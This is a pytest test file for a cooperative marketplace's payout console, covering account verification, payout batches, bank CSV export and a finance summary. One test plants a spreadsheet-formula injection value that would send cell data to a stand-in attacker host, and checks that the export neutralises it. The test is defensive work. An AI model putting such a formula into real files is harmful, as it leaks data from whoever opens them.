"""Money in the console: PFA staff and admins verify or reject cooperatives' payout accounts
(a confirmation step first); admins alone make payout batches (only verified accounts, others
listed as blocked with the reason), download the bank's CSV, mark payouts paid (a
confirmation step first), and read the platform's summary. Figures come from real orders
delivered through the real fulfilment flow."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from storefront.domain.ledger import payouts
from storefront.domain.ledger.queries import cooperative_balance
from storefront.models import (
    AuditEvent,
    LedgerTransaction,
    Payout,
    PayoutAccount,
    PayoutBatch,
    PayoutStatus,
    Role,
)
from tests.domain.ledger.helpers import seller_with_package
from tests.web.seller.test_finance import delivered_card_sale, net_of, vnd


def html(response) -> str:
    return response.get_data(as_text=True)


def world_counts(db) -> tuple:
    """What a money decision may change: accounts, batches, payouts, ledger, audit."""
    db.session.expire_all()
    accounts = db.session.execute(
        select(
            PayoutAccount.cooperative_id, PayoutAccount.verified_at, PayoutAccount.rejected_at
        ).order_by(PayoutAccount.cooperative_id)
    ).all()
    return (
        tuple(accounts),
        db.session.scalar(select(func.count()).select_from(PayoutBatch)),
        tuple(db.session.execute(select(Payout.id, Payout.status).order_by(Payout.id)).all()),
        db.session.scalar(select(func.count()).select_from(LedgerTransaction)),
        db.session.scalar(select(func.count()).select_from(AuditEvent)),
    )


@pytest.fixture
def admin(make):
    return make.user(role=Role.ADMIN, name="Quản trị")


@pytest.fixture
def owed(make, stripe_fake):
    """Three cooperatives owed money from delivered card sales: one with a verified payout
    account, one whose account waits for verification, one with none."""
    result = {}
    for key, price, name in (
        ("paid", 150_000, "HTX Vải thiều Hồng Xuân"),
        ("pending", 200_000, "HTX Mật ong Bắc Giang"),
        ("none", 250_000, "HTX Chè Tân Cương"),
    ):
        owner, coop, package = seller_with_package(make, price=price, name=name)
        number, shipment = delivered_card_sale(stripe_fake, owner, package, 2)
        result[key] = (owner, coop, shipment)
    owner, coop, _s = result["paid"]
    payouts.set_payout_account(
        coop.id,
        actor=owner,
        bank_bin="970436",
        account_number="0011002345678",
        holder_name=coop.legal_name,
    )
    payouts.verify_payout_account(coop.id, actor=make.user(role=Role.ADMIN))
    owner, coop, _s = result["pending"]
    payouts.set_payout_account(
        coop.id,
        actor=owner,
        bank_bin="970405",
        account_number="1500205123456",
        holder_name="Nguyễn Văn Mật",
    )
    return result


# --- payout accounts: PFA staff and admins ----------------------------------------------------


def test_staff_verify_an_account_after_a_confirmation(client, auth, staff, owed, db):
    _owner, coop, _s = owed["pending"]
    auth.login(staff)
    page = html(client.get("/pfa/finance/accounts"))
    assert "HTX Mật ong Bắc Giang" in page and "1500205123456" in page
    assert "NGUYEN VAN MAT" in page
    assert "Chủ tài khoản khác tên pháp lý của hợp tác xã" in page  # not the legal name
    assert "HTX Vải thiều Hồng Xuân" not in page  # verified already: not in the queue
    assert 'href="/pfa/finance/accounts"' in page  # in the console menu for staff
    assert 'href="/pfa/finance/payouts"' not in page  # money pages: admins only
    before = world_counts(db)

    ask = client.post(f"/pfa/finance/accounts/{coop.id}/verify")
    assert ask.status_code == 200
    assert "Xác minh tài khoản nhận tiền này?" in html(ask)
    assert 'name="account_number" value="1500205123456"' in html(ask)
    assert world_counts(db) == before  # the first step changes nothing

    done = client.post(
        f"/pfa/finance/accounts/{coop.id}/verify",
        data={"confirmed": "1", "account_number": "1500205123456"},
    )
    assert done.status_code == 303
    account = payouts.payout_account(coop.id)
    db.session.refresh(account)
    assert account.status == "verified" and account.verified_by_id == staff.id
    event = db.session.scalar(select(AuditEvent).order_by(AuditEvent.id.desc()))
    assert event.action == "payout_account.verify" and event.actor_id == staff.id


def test_an_account_changed_after_the_page_was_shown_is_not_verified(client, auth, staff, owed, db):
    owner, coop, _s = owed["pending"]
    auth.login(staff)
    payouts.set_payout_account(
        coop.id,
        actor=owner,
        bank_bin="970405",
        account_number="999999999",
        holder_name=coop.legal_name,
    )
    before = world_counts(db)
    response = client.post(
        f"/pfa/finance/accounts/{coop.id}/verify",
        data={"confirmed": "1", "account_number": "1500205123456"},
        follow_redirects=True,
    )
    assert "Tài khoản vừa được thay đổi" in html(response)
    assert world_counts(db) == before


def test_staff_reject_with_a_reason_and_the_owner_reads_it(client, auth, staff, owed, db):
    owner, coop, _s = owed["pending"]
    auth.login(staff)
    before = world_counts(db)
    refused = client.post(
        f"/pfa/finance/accounts/{coop.id}/reject", data={"reason": "  "}, follow_redirects=True
    )
    assert "Vui lòng nêu lý do: hợp tác xã sẽ đọc được lý do này." in html(refused)
    assert world_counts(db) == before

    client.post(
        f"/pfa/finance/accounts/{coop.id}/reject",
        data={"reason": "Tài khoản đứng tên cá nhân, không phải hợp tác xã."},
    )
    assert payouts.payout_account(coop.id).status == "rejected"
    client.post("/account/logout")
    auth.login(owner)
    page = html(client.get("/seller/finance/account"))
    assert "Tài khoản đứng tên cá nhân, không phải hợp tác xã." in page


def test_an_unknown_cooperative_s_account_is_not_found(client, auth, staff, db):
    auth.login(staff)
    assert client.post("/pfa/finance/accounts/999999/verify").status_code == 404
    assert (
        client.post("/pfa/finance/accounts/999999/verify", data={"confirmed": "1"}).status_code
        == 404
    )
    assert (
        client.post("/pfa/finance/accounts/999999/reject", data={"reason": "x"}).status_code == 404
    )


# --- payouts: admins only ----------------------------------------------------------------------


ADMIN_ONLY = [
    ("GET", "/pfa/finance/payouts"),
    ("GET", "/pfa/finance/summary"),
    ("POST", "/pfa/finance/payouts/batches"),
]


@pytest.mark.parametrize(("method", "url"), ADMIN_ONLY)
def test_pfa_staff_who_are_not_admins_are_refused_money_pages(
    client, auth, staff, owed, db, method, url
):
    auth.login(staff)
    before = world_counts(db)
    response = client.open(url, method=method, data={"threshold": "0", "confirmed": "1"})
    assert response.status_code == 403
    assert world_counts(db) == before


def test_staff_cannot_touch_a_batch_either(client, auth, staff, admin, owed, db):
    batch = payouts.create_payout_batch(actor=admin, threshold=0)
    [payout] = batch.payouts
    auth.login(staff)
    before = world_counts(db)
    for url in (
        f"/pfa/finance/payouts/batches/{batch.id}",
        f"/pfa/finance/payouts/batches/{batch.id}.csv",
    ):
        assert client.get(url).status_code == 403
    for url in (
        f"/pfa/finance/payouts/batches/{batch.id}/paid",
        f"/pfa/finance/payouts/batches/{batch.id}/payouts/{payout.id}/paid",
        f"/pfa/finance/payouts/batches/{batch.id}/payouts/{payout.id}/cancel",
    ):
        assert client.post(url, data={"confirmed": "1", "reason": "x"}).status_code == 403
    assert world_counts(db) == before


def test_the_preview_pays_verified_accounts_and_says_why_the_others_wait(client, auth, admin, owed):
    auth.login(admin)
    page = html(client.get("/pfa/finance/payouts"))
    paid_owner, paid_coop, paid_shipment = owed["paid"]
    assert 'href="/pfa/finance/payouts"' in page and 'href="/pfa/finance/summary"' in page
    would = page.split("Sẽ được chi trả", 1)[1].split("Được nợ nhưng chưa chi trả được", 1)[0]
    assert "HTX Vải thiều Hồng Xuân" in would and vnd(net_of(paid_shipment)) in would
    assert "0011002345678" in would
    assert "HTX Mật ong" not in would and "HTX Chè" not in would
    blocked = page.split("Được nợ nhưng chưa chi trả được", 1)[1]
    assert "HTX Mật ong Bắc Giang" in blocked
    assert "Tài khoản nhận tiền đang chờ xác minh" in blocked
    assert "HTX Chè Tân Cương" in blocked and "Chưa khai báo tài khoản nhận tiền" in blocked
    # The default threshold is shown, and a higher one leaves the smaller balance out.
    assert 'name="threshold" value="200000"' in page
    higher = html(client.get(f"/pfa/finance/payouts?threshold={net_of(paid_shipment) + 1}"))
    assert "HTX Vải thiều Hồng Xuân" not in higher.split("Sẽ được chi trả", 1)[1]


def test_a_threshold_that_is_not_a_number_is_refused_clearly(client, auth, admin, owed, db):
    auth.login(admin)
    response = client.get("/pfa/finance/payouts?threshold=-5")
    assert response.status_code == 400
    assert "Ngưỡng chi trả là số đồng nguyên, từ 0 trở lên." in html(response)
    before = world_counts(db)
    refused = client.post(
        "/pfa/finance/payouts/batches",
        data={"threshold": "1,5", "confirmed": "1"},
        follow_redirects=True,
    )
    assert "Ngưỡng chi trả là số đồng nguyên" in html(refused)
    assert world_counts(db) == before
    assert "200000" in html(client.get("/pfa/finance/payouts?threshold=200.000"))


def test_the_bank_csv_never_carries_a_spreadsheet_formula(client, auth, admin, owed, db):
    """A holder name stored before names were checked ("=HYPERLINK(...)" passed the old
    normalising) is written as text: the admin opens this file in a spreadsheet."""
    _paid_owner, paid_coop, _paid_shipment = owed["paid"]
    payouts.create_payout_batch(actor=admin, threshold=0)
    batch = db.session.scalar(select(PayoutBatch))
    [payout] = [p for p in batch.payouts if p.cooperative_id == paid_coop.id]
    payout.holder_name = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?X="&A1,"HTX")'
    db.session.commit()
    auth.login(admin)
    raw = client.get(f"/pfa/finance/payouts/batches/{batch.id}.csv").get_data()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    [holder] = [row[4] for row in rows[1:] if row[4].lstrip("'").startswith("=")]
    assert holder == "'" + payout.holder_name


def test_a_batch_its_bank_csv_and_marking_it_paid(client, auth, admin, owed, db):
    paid_owner, paid_coop, paid_shipment = owed["paid"]
    amount = net_of(paid_shipment)
    auth.login(admin)
    before = world_counts(db)

    ask = client.post("/pfa/finance/payouts/batches", data={"threshold": "200000"})
    assert ask.status_code == 200 and "Lập đợt chi trả này?" in html(ask)
    assert "HTX Vải thiều Hồng Xuân" in html(ask) and vnd(amount) in html(ask)
    assert "Chưa khai báo tài khoản nhận tiền" in html(ask)  # blocked ones, with the reason
    assert world_counts(db) == before

    made = client.post(
        "/pfa/finance/payouts/batches", data={"threshold": "200000", "confirmed": "1"}
    )
    assert made.status_code == 303
    batch = db.session.scalar(select(PayoutBatch))
    assert made.headers["Location"].endswith(f"/pfa/finance/payouts/batches/{batch.id}")
    [payout] = batch.payouts
    assert payout.cooperative_id == paid_coop.id and payout.amount == amount
    assert payout.status is PayoutStatus.PENDING
    assert cooperative_balance(paid_coop.id).balance == amount  # nothing posted yet

    page = html(client.get(f"/pfa/finance/payouts/batches/{batch.id}"))
    assert payout.transfer_content in page and vnd(amount) in page

    response = client.get(f"/pfa/finance/payouts/batches/{batch.id}.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert f"ocop-chi-tra-{batch.id}.csv" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == [
        "STT",
        "Mã BIN ngân hàng",
        "Ngân hàng",
        "Số tài khoản",
        "Chủ tài khoản",
        "Số tiền (VNĐ)",
        "Nội dung chuyển khoản",
    ]
    assert rows[1:] == [
        [
            "1",
            "970436",
            "Vietcombank",
            "0011002345678",
            "HTX VAI THIEU HONG XUAN",
            str(amount),
            payout.transfer_content,
        ]
    ]
    assert payout.transfer_content.startswith(f"OCOP MARKET TT {payout.id} HTX VAI THIEU")
    assert response.headers["X-Content-Type-Options"] == "nosniff"

    ask = client.post(f"/pfa/finance/payouts/batches/{batch.id}/payouts/{payout.id}/paid")
    assert ask.status_code == 200 and "Đánh dấu khoản này đã chi trả?" in html(ask)
    db.session.expire_all()
    assert db.session.get(Payout, payout.id).status is PayoutStatus.PENDING

    done = client.post(
        f"/pfa/finance/payouts/batches/{batch.id}/payouts/{payout.id}/paid",
        data={"confirmed": "1", "bank_reference": "FT2633012345"},
    )
    assert done.status_code == 303
    db.session.expire_all()
    assert db.session.get(Payout, payout.id).status is PayoutStatus.PAID
    assert cooperative_balance(paid_coop.id).balance == 0

    again = client.post(
        f"/pfa/finance/payouts/batches/{batch.id}/payouts/{payout.id}/paid",
        data={"confirmed": "1"},
        follow_redirects=True,
    )
    assert "Khoản chi trả này không còn chờ thanh toán." in html(again)
    assert cooperative_balance(paid_coop.id).balance == 0  # paid once

    # The cooperative sees the payout as an entry, and its balance at zero.
    client.post("/account/logout")
    auth.login(paid_owner)
    seller_page = html(client.get("/seller/finance"))
    assert f'<p class="finance-balance__amount">{vnd(0)}</p>' in seller_page
    assert "Chi trả" in seller_page and f"−{vnd(amount)}" in seller_page
    assert payout.transfer_content in seller_page


def test_marking_the_whole_batch_paid(client, auth, admin, owed, make, db):
    # The pending account verified too: two payouts in the batch.
    _o, pending_coop, pending_shipment = owed["pending"]
    payouts.verify_payout_account(pending_coop.id, actor=make.user(role=Role.PFA))
    batch = payouts.create_payout_batch(actor=admin, threshold=0)
    assert len(batch.payouts) == 2
    auth.login(admin)
    ask = client.post(f"/pfa/finance/payouts/batches/{batch.id}/paid")
    assert "Đánh dấu cả đợt đã chi trả?" in html(ask)
    total = sum(p.amount for p in batch.payouts)
    assert vnd(total) in html(ask)
    done = client.post(
        f"/pfa/finance/payouts/batches/{batch.id}/paid",
        data={"confirmed": "1"},
        follow_redirects=True,
    )
    assert "Đã đánh dấu 2 khoản đã chi trả" in html(done)
    db.session.expire_all()
    assert {p.status for p in db.session.get(PayoutBatch, batch.id).payouts} == {PayoutStatus.PAID}
    assert cooperative_balance(pending_coop.id).balance == 0
    csv_rows = client.get(f"/pfa/finance/payouts/batches/{batch.id}.csv").get_data()
    assert len(list(csv.reader(io.StringIO(csv_rows.decode("utf-8-sig"))))) == 1  # none left


def test_cancelling_a_payout_needs_a_reason_and_keeps_the_balance_owed(
    client, auth, admin, owed, db
):
    _o, paid_coop, paid_shipment = owed["paid"]
    batch = payouts.create_payout_batch(actor=admin, threshold=0)
    [payout] = batch.payouts
    auth.login(admin)
    url = f"/pfa/finance/payouts/batches/{batch.id}/payouts/{payout.id}/cancel"
    before = world_counts(db)
    client.post(url, data={"reason": ""})
    assert world_counts(db) == before
    client.post(url, data={"reason": "Ngân hàng từ chối: sai tên chủ tài khoản"})
    db.session.expire_all()
    assert db.session.get(Payout, payout.id).status is PayoutStatus.CANCELLED
    assert cooperative_balance(paid_coop.id).available == net_of(paid_shipment)
    # A payout of another batch is not found through this one.
    other = payouts.create_payout_batch(actor=admin, threshold=0)
    assert (
        client.post(
            f"/pfa/finance/payouts/batches/{batch.id}/payouts/{other.payouts[0].id}/paid",
            data={"confirmed": "1"},
        ).status_code
        == 404
    )


def test_the_platform_summary(client, auth, admin, owed, db):
    batch = payouts.create_payout_batch(actor=admin, threshold=0)
    payouts.mark_batch_paid(batch.id, actor=admin)
    auth.login(admin)
    page = html(client.get("/pfa/finance/summary"))
    shipments = [s for _o, _c, s in owed.values()]
    received = sum(s.subtotal + s.shipping_fee for s in shipments)
    commission = sum(s.subtotal * 500 // 10_000 for s in shipments)
    paid = net_of(owed["paid"][2])
    owed_now = net_of(owed["pending"][2]) + net_of(owed["none"][2])
    tiles = page.split('<ul class="tiles">', 1)[1].split("</ul>", 1)[0]
    for amount, label in (
        (received, "Tiền đã thu"),
        (commission, "Hoa hồng đã hưởng"),
        (owed_now, "Còn nợ các hợp tác xã"),
        (paid, "Đã chi trả cho các hợp tác xã"),
    ):
        tile = tiles.split(label, 1)[0].rsplit('<span class="tile__number">', 1)[1]
        assert tile.startswith(vnd(amount)), (label, tile[:40])
    # By month: this month's row carries the same figures.
    month_rows = page.split("Theo tháng", 1)[1].split("<tbody>", 1)[1].split("</tr>")
    this_month = month_rows[0]
    for amount in (received, commission, paid):
        assert vnd(amount) in this_month
